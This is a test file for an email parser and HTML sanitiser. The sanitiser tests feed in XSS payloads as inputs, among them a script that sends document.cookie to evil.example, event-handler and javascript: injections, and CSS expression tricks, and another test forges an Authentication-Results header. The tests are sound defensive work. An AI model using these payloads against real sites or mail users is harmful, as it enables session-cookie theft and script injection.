/**
 * Reading raw mail (what runs in the parsing thread), on real messages built by nodemailer and by
 * hand: reply text without quotes and signatures in the shapes mail clients write them, sanitised
 * HTML against what senders and attackers put in it, attachment limits, automatic mail,
 * Authentication-Results, bounces, and messages too broken for a MIME parser.
 */
import { randomUUID } from 'node:crypto';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import type Mail from 'nodemailer/lib/mailer/index.js';
import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './email-html.js';
import { MailParseError, parseMail } from './mail-parser.js';
import { readMail, readRoughly } from './mail-reading.js';

const LIMITS = { maxFiles: 10, maxFileBytes: 1_048_576 };
const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const compose = (options: Mail.Options): Promise<Buffer> =>
  new MailComposer({ from: 'Carla <carla@example.org>', to: 'support@acme.example', ...options }).compile().build();
const read = async (options: Mail.Options) => readMail(await compose(options), LIMITS);
const noImages = () => undefined;

describe('reply text', () => {
  it.each([
    ['Gmail', 'Yes, order 12.\n\nOn Mon, Dec 7, 2026 at 9:00 AM Acme Support <support@acme.example> wrote:\n> Which order?\n> Thanks'],
    ['a signature and a quote', 'Yes, order 12.\n\n-- \nCarla Customer\n+1 555 0100\n\n> Which order?'],
    ['Apple Mail', 'Yes, order 12.\n\nSent from my iPhone\n\n> On 7 Dec 2026, at 09:00, Acme Support <support@acme.example> wrote:\n>\n> Which order?'],
    ['French', 'Yes, order 12.\n\nLe lun. 7 déc. 2026 à 09:00, Acme Support <support@acme.example> a écrit :\n> Which order?'],
  ])('keeps only the reply of %s', async (_client, text) => {
    const mail = await read({ text });
    expect(mail.content).toBe('Yes, order 12.');
    expect(mail.email.fullText).toBe(text);
  });

  it('keeps the whole text of a mail that is all quote, and says the subject of one without text', async () => {
    expect((await read({ text: '> forwarded words\n> more words' })).content).toBe('> forwarded words\n> more words');
    expect((await read({ subject: 'Call me back', text: '' })).content).toBe('Call me back');
    expect((await read({ text: '' })).content).toBe('(This e-mail has no text.)');
  });

  it('reads the text of an HTML-only mail', async () => {
    const mail = await read({ html: '<p>Hello <b>there</b></p><blockquote>old words</blockquote>' });
    expect(mail.content).toContain('Hello there');
    expect(mail.email.html).toBe('<p>Hello <b>there</b></p><blockquote>old words</blockquote>');
  });
});

describe('sanitised HTML', () => {
  it.each([
    ['a script', '<p>hi</p><script>fetch("https://evil.example/"+document.cookie)</script>', '<p>hi</p>'],
    ['an event handler', '<p onmouseover="alert(1)">hi</p><img src=x onerror=alert(1)>', '<p>hi</p>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>', '<a>x</a><a>y</a>'],
    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
    ['a remote image (a tracker)', '<p>hi</p><img src="https://tracker.example/o.gif" width="1" height="1"><img src="//tracker.example/o.gif">', '<p>hi</p>'],
    [
      'frames, forms, objects',
      '<iframe src="https://x.example"></iframe><form action="https://x.example"><input name=p><button>Go</button></form><object data="x.swf"></object><embed src="x.swf">',
      'Go',
    ],
    [
      'a style sheet and a base',
      '<head><style>p{background:url(https://t.example/x)}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"></head><p>hi</p>',
      '<p>hi</p>',
    ],
    [
      'CSS that loads',
      '<p style="color:red;background:url(https://t.example/x);background-image:image-set(&quot;https://t.example/y&quot; 1x)">hi</p>',
      '<p style="color:red">hi</p>',
    ],
    ['CSS escapes and expressions', '<p style="width:expression(alert(1));color:\\72 ed;position:fixed">hi</p>', '<p>hi</p>'],
    ['SVG with a script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg><p>hi</p>', '<p>hi</p>'],
  ])('removes %s', (_what, html, expected) => {
    expect(sanitizeEmailHtml(html, noImages)).toBe(expected);
  });

  it('keeps formatting, tables and links (opened apart from the app)', () => {
    const html =
      '<table width="600" cellpadding="4"><tr><td bgcolor="#eeeeee" style="font-size:14px;padding:8px">Total: <b>€12</b></td></tr></table><a href="https://shop.example/o/12">Order</a>';
    expect(sanitizeEmailHtml(html, noImages)).toBe(
      '<table width="600" cellpadding="4"><tr><td bgcolor="#eeeeee" style="font-size:14px;padding:8px">Total: <b>€12</b></td></tr></table>' +
        '<a href="https://shop.example/o/12" target="_blank" rel="noopener noreferrer nofollow">Order</a>',
    );
  });

  it('points inline images at their attachments and keeps small embedded ones', () => {
    const html = `<img src="cid:logo@acme" alt="Logo"><img src="cid:missing@acme"><img src="data:image/png;base64,${PIXEL.toString('base64')}">`;
    expect(sanitizeEmailHtml(html, (cid) => (cid === 'logo@acme' ? 3 : undefined))).toBe(
      `<img alt="Logo" data-attachment="3" /><img src="data:image/png;base64,${PIXEL.toString('base64')}" />`,
    );
    // A sender cannot name an attachment place itself.
    expect(sanitizeEmailHtml('<img data-attachment="0" src="https://t.example/x">', noImages)).toBe('');
  });
});

describe('attachments', () => {
  it('keeps inline images and files up to the limits; refused types and the rest are counted', async () => {
    const mail = await readMail(
      await compose({
        html: '<p>See <img src="cid:shot@carla"></p>',
        attachments: [
          { filename: 'shot.png', content: PIXEL, cid: 'shot@carla' },
          { filename: 'setup.exe', content: Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000', 'hex') },
          { filename: 'page.html', content: '<html><script>alert(1)</script></html>' },
          { filename: 'big.txt', content: 'x'.repeat(2_000) },
          ...Array.from({ length: 5 }, (_, i) => ({ filename: `note-${i}.txt`, content: `note ${i}` })),
        ],
      }),
      { maxFiles: 3, maxFileBytes: 1_000 },
    );
    expect(mail.attachments.map((file) => [file.fileName, file.contentType])).toEqual([
      ['shot.png', 'image/png'],
      ['note-0.txt', 'text/plain'],
      ['note-1.txt', 'text/plain'],
    ]);
    expect(Buffer.from(mail.attachments[0]!.content).equals(PIXEL)).toBe(true);
    expect(mail.email.attachmentsDropped).toBe(6);
    expect(mail.email.html).toBe('<p>See <img data-attachment="0" /></p>');
  });
});

describe('headers', () => {
  it.each([
    [{ 'Auto-Submitted': 'auto-replied' }, true],
    [{ 'Auto-Submitted': 'auto-generated' }, true],
    [{ 'Auto-Submitted': 'no' }, false],
    [{ 'X-Autoreply': 'yes' }, true],
    [{ 'X-Autorespond': 'Out of office' }, true],
    [{ Precedence: 'bulk' }, true],
    [{ Precedence: 'list' }, true],
    [{ Precedence: 'junk' }, true],
    [{ 'List-Id': 'News <news.example.org>' }, true],
    [{}, false],
  ])('automatic mail: %j → %s', async (headers, automated) => {
    expect((await read({ text: 'hi', headers })).email.automated).toBe(automated);
  });

  it.each([
    [
      'mx.acme.example; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org',
      { spf: 'pass', dkim: 'pass', dmarc: 'pass', failed: false },
    ],
    ['mx.acme.example; dmarc=fail (p=reject) header.from=example.org', { spf: null, dkim: null, dmarc: 'fail', failed: true }],
    [
      'mx.acme.example; spf=fail smtp.mailfrom=example.org; dkim=fail (bad signature) header.d=example.org',
      { spf: 'fail', dkim: 'fail', dmarc: null, failed: true },
    ],
    [
      'mx.acme.example; spf=softfail smtp.mailfrom=example.org; dkim=fail header.d=x.example; dkim=pass header.d=example.org',
      { spf: 'softfail', dkim: 'pass', dmarc: null, failed: false },
    ],
    ['mx.acme.example; none', null],
  ])('Authentication-Results %s', async (value, expected) => {
    expect((await read({ text: 'hi', headers: { 'Authentication-Results': value } })).email.authentication).toEqual(expected);
  });

  it('believes the topmost Authentication-Results only (those below may come from the sender)', async () => {
    const raw = await compose({ text: 'hi', headers: { 'Authentication-Results': 'attacker.example; spf=pass; dkim=pass; dmarc=pass' } });
    const received = Buffer.concat([
      Buffer.from('Authentication-Results: mx.acme.example; spf=fail smtp.mailfrom=example.org; dkim=none; dmarc=fail\r\n'),
      raw,
    ]);
    expect((await readMail(received, LIMITS)).email.authentication).toMatchObject({ dmarc: 'fail', failed: true });
  });

  it('reads ids and addresses for threading; a mail without a Message-ID gets one from its bytes', async () => {
    const mail = await read({
      messageId: '<m1@example.org>',
      inReplyTo: '<ours-2@acme.example>',
      references: ['<m0@example.org>', '<ours-2@acme.example>'],
      cc: 'Boss <BOSS@example.org>',
      headers: { 'Delivered-To': 'support+c42-0123456789@acme.example' },
      text: 'hi',
    });
    expect(mail).toMatchObject({
      messageId: '<m1@example.org>',
      email: { inReplyTo: '<ours-2@acme.example>', references: ['<m0@example.org>', '<ours-2@acme.example>'] },
    });
    expect(mail.recipients).toEqual(['support@acme.example', 'boss@example.org', 'support+c42-0123456789@acme.example']);
    const raw = Buffer.from('From: a@example.org\r\nSubject: no id\r\n\r\nhello\r\n');
    const once = await readMail(raw, LIMITS);
    expect(once.messageId).toMatch(/^<[0-9a-f]{64}@no-message-id\.hummdesk>$/);
    expect((await readMail(raw, LIMITS)).messageId).toBe(once.messageId);
  });
});

describe('bounces', () => {
  const dsn = (action: string) =>
    Buffer.from(
      [
        'From: MAILER-DAEMON@mx.example.org',
        'To: support@acme.example',
        'Subject: Delivery Status Notification',
        'Content-Type: multipart/report; report-type=delivery-status; boundary=b',
        '',
        '--b',
        'Content-Type: text/plain',
        '',
        'Delivery to gone@example.org failed.',
        '--b',
        'Content-Type: message/delivery-status',
        '',
        'Reporting-MTA: dns; mx.example.org',
        '',
        'Final-Recipient: rfc822; gone@example.org',
        `Action: ${action}`,
        'Status: 5.1.1',
        'Diagnostic-Code: smtp; 550 5.1.1 User unknown',
        '--b',
        'Content-Type: message/rfc822',
        '',
        'From: support@acme.example',
        'Message-ID: <reply-1@acme.example>',
        'References: <customer-1@example.org>',
        '',
        'Our reply.',
        '--b--',
        '',
      ].join('\r\n'),
    );

  it('reads a delivery-status report: which of our mails failed, and why', async () => {
    expect((await readMail(dsn('failed'), LIMITS)).bounce).toEqual({
      failed: true,
      reason: 'Bounced by gone@example.org: 550 5.1.1 User unknown',
      messageIds: ['<reply-1@acme.example>'],
      report: true,
    });
    expect((await readMail(dsn('delayed'), LIMITS)).bounce).toMatchObject({ failed: false, report: true });
  });

  it('reads a mailer daemon’s plain returned mail that quotes our Message-ID; ordinary mail is no bounce', async () => {
    const returned = Buffer.from(
      'From: Mail Delivery Subsystem <mailer-daemon@mx.example.org>\r\nSubject: failure notice\r\n\r\nSorry, no mailbox here by that name.\r\n\r\n--- Below this line is a copy of the message.\r\n\r\nMessage-ID: <reply-2@acme.example>\r\nSubject: Re: Hi\r\n',
    );
    expect((await readMail(returned, LIMITS)).bounce).toMatchObject({ failed: true, report: false, messageIds: ['<reply-2@acme.example>'] });
    expect((await read({ text: `Message-ID: <${randomUUID()}@x>` })).bounce).toBeNull();
  });
});

describe('broken mail', () => {
  it('reads what it can of bytes no parser can make sense of', () => {
    const rough = readRoughly(
      Buffer.from('From: "Odd" <odd@example.org>\r\nSubject: =?x?Q?broken\r\nMessage-ID: <odd-1@example.org>\r\n\r\nthe body text\r\n'),
      'a test',
    );
    expect(rough).toMatchObject({
      messageId: '<odd-1@example.org>',
      email: { from: { address: 'odd@example.org', name: 'Odd' }, fullText: 'the body text' },
      unreadable: 'a test',
    });
    expect(rough.content).toContain('could not be read properly');
    expect(rough.content).toContain('the body text');
  });
});

// The parsing thread runs the compiled worker (dist/), as the server does.
describe('the parsing thread', () => {
  it('reads a mail off the event loop, gives up on one that takes too long, and reads the next', async () => {
    const raw = await compose({ subject: 'Threaded', text: 'Read in a thread.', attachments: [{ filename: 'p.png', content: PIXEL }] });
    const mail = await parseMail(raw, LIMITS);
    expect(mail).toMatchObject({ content: 'Read in a thread.', email: { subject: 'Threaded' } });
    expect(Buffer.from(mail.attachments[0]!.content).equals(PIXEL)).toBe(true);
    const huge = await compose({ html: `<div>${'<p>deep</p>'.repeat(200_000)}</div>` });
    await expect(parseMail(huge, LIMITS, 1)).rejects.toBeInstanceOf(MailParseError);
    expect((await parseMail(raw, LIMITS)).content).toBe('Read in a thread.');
  });
});
